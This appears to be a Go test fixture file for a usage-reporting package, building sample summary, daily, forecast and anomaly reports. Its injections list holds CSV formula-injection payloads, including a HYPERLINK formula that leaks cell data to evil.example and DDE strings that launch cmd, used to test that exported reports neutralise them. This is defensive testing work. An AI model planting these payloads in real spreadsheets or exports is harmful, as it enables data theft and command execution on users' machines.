package report

import (
	"bytes"
	"iter"
	"testing"
	"time"

	"github.com/shopspring/decimal"
)

// injections are payloads from OWASP's CSV injection page, used as subjects,
// metrics and reasons.
var injections = []string{
	`=1+2`,
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+9)*cmd|' /C calc'!A0`,
	"\t=1+2",
	"\r=1+2",
	"\n=1+2",
}

var (
	lisbon, _ = time.LoadLocation("Europe/Lisbon")
	march     = time.Date(2026, 3, 1, 0, 0, 0, 0, lisbon)
	april     = time.Date(2026, 4, 1, 0, 0, 0, 0, lisbon)
	generated = time.Date(2026, 3, 20, 9, 30, 0, 0, time.UTC)
)

func d(s string) decimal.Decimal { return decimal.RequireFromString(s) }

func header(title, subject string) Header {
	return Header{Title: title, Subject: subject, From: march, To: april, TimeZone: "Europe/Lisbon",
		Currency: "EUR", GeneratedAt: generated}
}

// summaryFixture is one subject with a name in Greek and accents, over quota on
// one metric, and one line per injection payload.
func summaryFixture() *Summary {
	s := &Summary{Header: header("Usage summary — Ωmega Café", "Ωmega Café")}
	s.Lines = append(s.Lines,
		SummaryLine{Subject: "Ωmega Café", Metric: "api_calls", Unit: "calls", PeriodStart: march,
			PeriodEnd: april, TimeZone: "Europe/Lisbon", Used: d("12500"), Limit: d("10000"),
			Percent: 125, Overage: d("2500"), OverageCost: d("25.00"), Currency: "EUR",
			Alerts: CrossedThresholds(125)},
		SummaryLine{Subject: "Ωmega Café", Metric: "storage_gb", Unit: "ГБ", PeriodStart: march,
			PeriodEnd: april, TimeZone: "Europe/Lisbon", Used: d("42.5"), Limit: d("50"),
			Percent: 85, Overage: d("0"), OverageCost: d("0"), Currency: "EUR",
			Alerts: CrossedThresholds(85)},
		SummaryLine{Subject: "Ωmega Café", Metric: "users", Unit: "seats", PeriodStart: march,
			PeriodEnd: april, TimeZone: "Europe/Lisbon", Used: d("-3"), Unlimited: true,
			Overage: d("0"), OverageCost: d("-1.5"), Currency: "EUR"},
	)
	for _, inj := range injections {
		s.Lines = append(s.Lines, SummaryLine{Subject: inj, Metric: inj, Unit: "calls",
			PeriodStart: march, PeriodEnd: april, TimeZone: "Europe/Lisbon", Used: d("1"),
			Limit: d("10"), Percent: 10, Overage: d("0"), OverageCost: d("0"), Currency: "EUR"})
	}
	return s
}

// detailedFixture is n subjects with a month of days each, of two metrics.
func detailedFixture(subjects int) *Detailed {
	return &Detailed{Header: header("Daily usage", ""), Series: func(yield func(Series, error) bool) {
		for i := range subjects {
			for _, metric := range []string{"api_calls", "documents"} {
				s := Series{Subject: "tenant-" + string(rune('a'+i%26)), Metric: metric, Unit: "calls",
					TimeZone: "Europe/Lisbon", Trend: TrendUp, PreviousTotal: d("300")}
				if i == 0 && metric == "documents" {
					s.Subject = injections[0]
				}
				cum := decimal.Zero
				for day := range 31 {
					u := decimal.NewFromInt(int64(10 + day))
					cum = cum.Add(u)
					s.Days = append(s.Days, Day{Date: march.AddDate(0, 0, day), Usage: u,
						Cumulative: cum, Limit: d("600")})
				}
				s.Total = cum
				s.PeakDay = march.AddDate(0, 0, 30)
				s.PeakHour = march.AddDate(0, 0, 30).Add(14 * time.Hour)
				if !yield(s, nil) {
					return
				}
			}
		}
	}}
}

func forecastFixture() *Forecast {
	f := &Forecast{Header: header("Forecast", "acme")}
	m := MetricForecast{Subject: "acme", Metric: "api_calls", Unit: "calls", TimeZone: "Europe/Lisbon",
		HasQuota: true, Limit: d("10000"), Used: d("6000"), ExpectedUsage: 11200,
		Reach80: march.AddDate(0, 0, 22), Reach90: march.AddDate(0, 0, 25), Reach100: march.AddDate(0, 0, 28),
		ExceedProbability: 0.72, ExpectedOverage: 1300, ExpectedCost: d("13.00"), Currency: "EUR"}
	for i := range 12 {
		v := 300 + float64(i)*5
		m.Points = append(m.Points, ForecastPoint{Start: march.AddDate(0, 0, 19+i), Value: v,
			Lower80: v - 40, Upper80: v + 40, Lower95: v - 70, Upper95: v + 70})
	}
	f.Metrics = append(f.Metrics, m, MetricForecast{Subject: "acme", Metric: "users", Unit: "seats",
		TimeZone: "Europe/Lisbon", Note: "insufficient history: 3 of 14 days"})
	return f
}

func anomalyFixture() *Anomalies {
	a := &Anomalies{Header: header("Anomalies", "")}
	for i, inj := range injections {
		a.Items = append(a.Items, Anomaly{ID: int64(i + 1), Subject: inj, Metric: "api_calls",
			At: march.Add(time.Duration(i) * time.Hour), TimeZone: "Europe/Lisbon", Method: "ensemble",
			Value: 900, Expected: 120, Risk: 80 + i, FraudSuspect: i%2 == 0,
			Reasons: []string{inj, ReasonText("zscore", 6.25, 0.97)}, Status: "open"})
	}
	return a
}

// fixtures are one report of each type.
func fixtures() iter.Seq[Report] {
	return func(yield func(Report) bool) {
		for _, r := range []Report{summaryFixture(), detailedFixture(2), forecastFixture(), anomalyFixture()} {
			if !yield(r) {
				return
			}
		}
	}
}

func render(t *testing.T, r Report, f Format) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := Write(&buf, r, f); err != nil {
		t.Fatalf("Write %s %s: %v", r.Type(), f, err)
	}
	return buf.Bytes()
}
